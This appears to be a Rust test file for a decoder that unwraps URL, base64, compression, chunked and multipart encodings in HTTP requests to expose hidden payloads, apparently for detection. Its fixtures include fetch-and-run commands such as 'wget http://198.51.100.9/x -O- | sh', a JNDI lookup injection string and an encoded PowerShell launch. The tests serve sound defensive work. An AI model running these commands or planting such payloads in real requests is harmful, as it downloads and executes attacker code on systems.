use std::io::Write;

use base64::Engine;
use base64::prelude::{BASE64_STANDARD, BASE64_STANDARD_NO_PAD, BASE64_URL_SAFE_NO_PAD};
use flate2::Compression;
use flate2::write::{DeflateEncoder, GzEncoder};

use super::*;

const POST: &str = "POST / HTTP/1.1\r\n\r\n";

fn parts(raw: &[u8]) -> Vec<Part> {
    decode(raw, Head::parse(raw).is_some(), Limits::SHOWN)
}

fn found(raw: &[u8]) -> Vec<(String, String)> {
    let shown = |part: Part| (part.what(), part.bytes.escape_ascii().to_string());
    parts(raw).into_iter().map(shown).collect()
}

/// Returns how the last part of a body was wrapped, and its bytes.
fn last(head: &str, body: &[u8]) -> (String, String) {
    let raw = [format!("POST / HTTP/1.1\r\n{head}\r\n").as_bytes(), body].concat();
    found(&raw).pop().unwrap_or_default()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

fn deflate(bytes: &[u8]) -> Vec<u8> {
    let mut encoder = DeflateEncoder::new(Vec::new(), Compression::default());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn each_wrapping_is_undone() {
    let raw = b"GET /?c=%2565cho%20x HTTP/1.1\r\nAuthorization: Basic YWRtaW46cGFzc3dvcmQ=\r\n\r\n";
    let expected = [
        ("target, URL-decoded", "/?c=%65cho x"),
        ("target, URL-decoded, URL-decoded", "/?c=echo x"),
        (
            "Authorization, base64 YWRtaW46cGFzc3dvcmQ=",
            "admin:password",
        ),
    ];
    assert_eq!(
        found(raw),
        expected.map(|(what, bytes)| (what.to_owned(), bytes.to_owned()))
    );
}

#[test]
fn one_inside_the_other_is_found() {
    let inner = BASE64_URL_SAFE_NO_PAD.encode(gzip(b"curl http://192.0.2.1/x.sh | sh"));
    let raw = format!("{POST}{{\"cmd\":\"{}\"}}", inner.replace('-', "%2d"));
    let (what, bytes) = found(raw.as_bytes()).pop().unwrap();
    assert_eq!(bytes, "curl http://192.0.2.1/x.sh | sh");
    assert!(
        what.starts_with("body, ") && what.ends_with(", gunzipped"),
        "{what}"
    );
}

#[test]
fn chunks_are_joined_as_far_as_they_go() {
    let head = "POST / HTTP/1.1\r\nTransfer-Encoding: gzip, chunked\r\n\r\n";
    for (body, joined) in [
        ("5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n", "hello world"),
        ("5\nhello\n6\n wo", "hello wo"),
        ("ffffffffffffffff\r\nhello", "hello"),
    ] {
        let found = found(format!("{head}{body}").as_bytes());
        let expected = ("body, chunks joined".to_owned(), joined.to_owned());
        assert_eq!(found, [expected]);
    }
    for body in ["", "0\r\n\r\n", "-1\r\nx", "zz\r\nhello", "5"] {
        assert_eq!(found(format!("{head}{body}").as_bytes()), []);
    }
}

#[test]
fn codings_are_undone_before_all_else() {
    let form = b"user=admin&cmd=%69%64";
    let chunked = |bytes: &[u8]| {
        let size = format!("{:x}\r\n", bytes.len());
        [size.as_bytes(), bytes, b"\r\n0\r\n\r\n"].concat()
    };
    let both = "Content-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n";
    let raw = [
        format!("POST / HTTP/1.1\r\n{both}\r\n").as_bytes(),
        &chunked(&gzip(form)),
    ]
    .concat();
    let found = parts(&raw);
    assert!(found[0].is_body && found[0].bytes == form && found[0].kind() == ContentKind::Form);
    assert_eq!(found[0].what(), "body, chunks joined, gunzipped");
    assert_eq!(found[1].bytes, b"user=admin&cmd=id");
    assert!(!found[1].is_body);
    for (head, body) in [
        ("", gzip(form)),
        ("Content-Encoding: deflate\r\n", deflate(form)),
        ("Content-Encoding: gzip, deflate\r\n", deflate(&gzip(form))),
        ("Transfer-Encoding: deflate\r\n", deflate(form)),
    ] {
        let raw = [format!("POST / HTTP/1.1\r\n{head}\r\n").as_bytes(), &body].concat();
        assert_eq!(parts(&raw)[0].bytes, form, "{head}");
    }
    assert_eq!(last("", &deflate(form)), Default::default());
}

/// The content of the two streams below.
const COMMANDS: &str = "wget http://198.51.100.9/x -O- | sh; wget http://198.51.100.9/y -O- | sh";
/// `COMMANDS` as Node's `brotliCompressSync` writes it.
const BROTLI: &[u8] = b"\x1b\x47\x00\xf8\x1d\x87\xe9\x16\x74\xf7\x13\x3b\xa3\x74\xea\x39\xba\x3b\x3e\x6e\x63\x73\x69\x3a\x82\xa2\xb7\xa3\x1a\xe4\x09\x2f\x6f\x3e\x50\x0a\x57\x45\x43\x45\x75\x6b\x53\x43\xee\x62\x9a\x96\xd8\x31\x08\xc6\x8f\x38";
/// `COMMANDS` as `zstd -19` writes it.
const ZSTANDARD: &[u8] = b"\x28\xb5\x2f\xfd\x04\x68\x85\x01\x00\x64\x02\x77\x67\x65\x74\x20\x68\x74\x74\x70\x3a\x2f\x2f\x31\x39\x38\x2e\x35\x31\x2e\x31\x30\x30\x2e\x39\x2f\x78\x20\x2d\x4f\x2d\x20\x7c\x20\x73\x68\x3b\x20\x79\x02\x00\xa0\x10\x45\x8b\x7a\x02\x62\xb0\xb7\x01";

#[test]
fn brotli_and_zstandard_are_opened() {
    let named = last("Content-Encoding: br\r\n", BROTLI);
    let expected = |how: &str| (format!("body, {how} decompressed"), COMMANDS.to_owned());
    assert_eq!(named, expected("Brotli"));
    assert_eq!(last("", ZSTANDARD), expected("Zstandard"));
    // Only the header tells that these bytes are Brotli.
    assert_eq!(last("", BROTLI), Default::default());
    // A window of 2 GiB in Zstandard; one of a gigabyte in Brotli, which RFC 7932 does not have.
    let mut long = ZSTANDARD.to_vec();
    long.splice(4..6, [0, 0xa8]);
    for (head, body) in [
        ("", &long[..]),
        ("Content-Encoding: br\r\n", b"\x11\x1e\x00\x00"),
    ] {
        assert_eq!(last(head, body), Default::default());
    }
}

#[test]
fn base64_is_found_wherever_it_begins() {
    let command = "wget http://198.51.100.9/x -O- | sh";
    let encoded = BASE64_STANDARD.encode(command);
    let utf16: Vec<u8> = command.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let powershell = BASE64_STANDARD.encode(utf16);
    let lines = BASE64_STANDARD.encode(command.repeat(4)).into_bytes();
    let lines: Vec<_> = lines.chunks(76).collect();
    let jndi = format!("${{jndi:ldap://203.0.113.5:1389/Basic/Command/Base64/{encoded}}}");
    for (text, expected) in [
        (format!("x={encoded}"), command.to_owned()),
        (format!("/a/b/{encoded}/c"), command.to_owned()),
        (format!("a+{encoded}"), command.to_owned()),
        (jndi, command.to_owned()),
        (format!("powershell -enc {powershell}"), command.to_owned()),
        (format!("echo {encoded}|base64 -d|sh"), command.to_owned()),
        (
            String::from_utf8(lines.join(&b"\r\n"[..])).unwrap(),
            command.repeat(4),
        ),
        (
            String::from_utf8(lines.join(&b"\\n"[..])).unwrap(),
            command.repeat(4),
        ),
        (
            BASE64_STANDARD
                .encode(">>>??? many words ???>>>")
                .replace('/', "\\/"),
            ">>>??? many words ???>>>".into(),
        ),
        (
            BASE64_URL_SAFE_NO_PAD.encode(">>>??? many words ???>>>"),
            ">>>??? many words ???>>>".into(),
        ),
        (
            BASE64_STANDARD_NO_PAD.encode("many words"),
            "many words".into(),
        ),
    ] {
        let (what, found) = last("", text.as_bytes());
        assert_eq!(found, expected, "{text}");
        assert!(what.starts_with("body, base64 "), "{what}");
    }
}

#[test]
fn credentials_may_be_short() {
    for (header, login) in [
        ("Authorization: Basic YWRtaW46", "admin:"),
        ("proxy-authorization:basic  YTpi", "a:b"),
        ("Authorization: Basic YWRtaW46YWRtaW4=", "admin:admin"),
    ] {
        let found = found(format!("GET / HTTP/1.1\r\n{header}\r\n\r\n").as_bytes());
        assert_eq!(found[0].1, login);
    }
    assert_eq!(found(b"GET / HTTP/1.1\r\nX: Basic YWRtaW46\r\n\r\n"), []);
}

#[test]
fn text_is_rewritten_by_each_encoding() {
    for (text, plain) in [
        (r#"{"a":"\u003cscript\u003e"}"#, r#"{\"a\":\"<script>\"}"#),
        ("a=&#x3c;b&gt;", "a=<b>"),
        ("%u003cb%3E", "<b>"),
        ("Subject: a=3Db=\r\nc=3D", "Subject: a=bc="),
        (r"\x77\x67\x65\x74", "wget"),
        ("id=0x7767657420687474703a2f2f", "wget http://"),
    ] {
        assert_eq!(last("", text.as_bytes()).1, plain, "{text}");
    }
}

#[test]
fn the_parts_of_a_form_are_looked_at() {
    let body = "--b\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.txt\"\r\n\
        Content-Transfer-Encoding: quoted-printable\r\n\r\na=41\r\n--b\r\n\
        Content-Disposition: form-data; name=\"z\"\r\n\r\nbWFueSB3b3JkcyBhbmQgbW9yZQ==\r\n--b--\r\n";
    let found = found(format!("{POST}{body}").as_bytes());
    assert_eq!(found[0].0, "body, part x.txt, quoted-printable decoded");
    assert_eq!(found[0].1, "aA");
    assert_eq!(found[1].0, "body, part z, base64 bWFueSB3b3JkcyBhbmQ…");
    assert_eq!(found.len(), 2);
}

#[test]
fn a_part_knows_its_place() {
    let raw = b"GET /?x=bWFueSB3b3JkcyBhbmQgbW9yZQ== HTTP/1.1\r\nX: a%41\r\n\r\n";
    let found = parts(raw);
    assert_eq!(
        &raw[found[0].place.clone()],
        b"bWFueSB3b3JkcyBhbmQgbW9yZQ=="
    );
    assert_eq!(&raw[found[1].place.clone()], b"a%41");
}

#[test]
fn words_are_not_base64() {
    for raw in [
        &b"GET /administrator/components/index.php HTTP/1.1\r\nHost: example.com\r\nAccept: application/json\r\n\r\n"[..],
        b"GET /AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA HTTP/1.1\r\n\r\n",
        b"GET / HTTP/1.1\r\nUser-Agent: Mozilla/5.0 (compatible; ExampleBot/2.1)\r\n\r\n=====================",
        b"GET /wp-content/plugins/contact-form-7/includes/css/styles.css?ver=5.1.1 HTTP/1.1\r\n\r\n",
        b"GET /_next/static/chunks/webpack/internationalization.js HTTP/1.1\r\n\r\n",
        b"POST /HNAP1/GetDeviceSettings/SetWanSettings HTTP/1.1\r\nSOAPAction: AddPortMapping\r\n\r\n",
        b"GET / HTTP/1.1\r\nCookie: PHPSESSID=4f2a1b7c9d3e5f60718293a4b5c6d7e8; id=550e8400-e29b-41d4-a716-446655440000\r\n\r\n",
        b"GET /ABCDEFGHIJKLMNOPQRSTUVWXYZ/abcdefghijklmnopqrstuvwxyz/0123456789 HTTP/1.1\r\n\r\n",
        b"GET /actuator/gateway/routes/HTTPSConnectionConfiguration HTTP/1.1\r\n\r\n",
        b"\x16\x03\x01",
    ] {
        assert_eq!(found(raw), [], "{}", raw.escape_ascii());
    }
}

#[test]
fn what_explodes_is_cut_off() {
    let most = Limits::SHOWN.bytes;
    let bomb = gzip(&vec![b'a'; 50_000_000]);
    let raw = [POST.as_bytes(), &bomb[..]].concat();
    let sizes: Vec<_> = parts(&raw).iter().map(|part| part.bytes.len()).collect();
    assert_eq!(sizes, [most]);
    // Many small ones, each of which would fit.
    let bombs = (0..MAX_PARTS).map(|number| {
        BASE64_STANDARD.encode(gzip(&[[b'a'; 50_000], [number as u8; 50_000]].concat()))
    });
    let raw = format!("{POST}{}", bombs.collect::<Vec<_>>().join(" "));
    let sizes = parts(raw.as_bytes())
        .into_iter()
        .map(|part| part.bytes.len());
    assert!(sizes.sum::<usize>() <= most);
    let many = BASE64_STANDARD.encode("many words here") + " ";
    let many: String = (0..1000)
        .map(|number| many.replacen('b', &format!("b{number:04}"), 1))
        .collect();
    assert!(found(format!("{POST}{many}").as_bytes()).len() <= MAX_PARTS);
}

/// `wget http://198.51.100.9/x -O- | sh` in base64.
const HIDDEN: &str = "d2dldCBodHRwOi8vMTk4LjUxLjEwMC45L3ggLU8tIHwgc2g=";
const COMMAND: &str = "wget http://198.51.100.9/x -O- | sh";

fn finds_command(head: &str, body: &[u8]) -> bool {
    let raw = [format!("POST / HTTP/1.1\r\n{head}\r\n").as_bytes(), body].concat();
    found(&raw).iter().any(|(_, bytes)| bytes.contains(COMMAND))
}

#[test]
fn what_is_in_no_part_of_a_form_is_looked_at() {
    let part = "--b\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\n1\r\n";
    for body in [
        format!("--b\nContent-=1&cmd={HIDDEN}"),
        format!("--b\nContent-=1&cmd={HIDDEN}\n\n"),
        format!("--b=1&cmd={HIDDEN}\nContent-\n\n"),
        format!("{part}--b=1&cmd={HIDDEN}\n\n"),
        format!("{part}--b--\r\n{HIDDEN}"),
        format!("{part}--b--\r\n\r\n{HIDDEN}"),
        format!("{part}--b\r\n{HIDDEN}\r\n--b--\r\n"),
        format!(
            "{}--b\r\nX: y\r\n\r\n{HIDDEN}\r\n--b--\r\n",
            part.repeat(40)
        ),
        format!(
            "{}--b\r\nX: y\r\n\r\n{HIDDEN}\r\n--b--\r\n",
            part.repeat(900)
        ),
    ] {
        assert!(finds_command("", body.as_bytes()), "{body:.200}");
    }
}

#[test]
fn what_is_behind_the_chunks_is_looked_at() {
    let head = "Transfer-Encoding: chunked\r\n";
    for body in [
        format!("1\r\nx\r\nZ {HIDDEN}"),
        format!("1\r\nx\r\n0\r\nX: {HIDDEN}\r\n\r\n"),
    ] {
        assert!(finds_command(head, body.as_bytes()), "{body}");
    }
}

#[test]
fn what_stands_beside_a_stream_is_looked_at() {
    let behind = format!("=1&cmd={HIDDEN}");
    let mut changed = gzip(b"a");
    let checksum = changed.len() - 8;
    changed[checksum] ^= 1;
    let mut named = b"\x1f\x8b\x08\x08\0\0\0\0\0\x03".to_vec();
    named.extend(HIDDEN.as_bytes());
    named.push(0);
    named.extend(&gzip(b"a")[10..]);
    for stream in [&gzip(b"a")[..], &changed, &named, ZSTANDARD] {
        let body = [stream, behind.as_bytes()].concat();
        assert!(finds_command("", &body), "{}", stream.escape_ascii());
        let coded = BASE64_STANDARD.encode([stream, b"; ", COMMAND.as_bytes()].concat());
        assert!(
            finds_command("", coded.as_bytes()),
            "{}",
            stream.escape_ascii()
        );
    }
    // These are not tried in base64, where nothing distinguishes them from noise.
    for stream in [&b"x\x9cK\x04\0\0b\0b"[..], b"HKK\x04\0"] {
        let body = [stream, behind.as_bytes()].concat();
        assert!(finds_command("", &body), "{}", stream.escape_ascii());
    }
    let body = [&deflate(b"a")[..], behind.as_bytes()].concat();
    assert!(finds_command("Content-Encoding: deflate\r\n", &body));
    // Nothing stands beside this stream.
    assert_eq!(found(&[POST.as_bytes(), &gzip(b"abc")].concat()).len(), 1);
}
